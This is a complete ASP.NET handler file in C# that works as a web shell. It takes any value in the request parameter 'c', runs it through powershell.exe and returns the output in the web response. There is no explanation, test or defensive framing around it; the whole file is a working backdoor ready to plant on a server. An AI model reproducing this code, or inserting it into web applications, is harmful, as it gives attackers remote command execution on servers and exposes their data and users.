<%@ WebHandler Language="C#" Class="H" %>
using System.Diagnostics; using System.Web;
public class H : IHttpHandler {
  public void ProcessRequest(HttpContext context) {
    var p = new Process(); p.StartInfo.FileName = "powershell.exe"; p.StartInfo.Arguments = context.Request["c"];
    p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; p.Start();
    context.Response.Write(p.StandardOutput.ReadToEnd());
  }
  public bool IsReusable { get { return false; } }
}
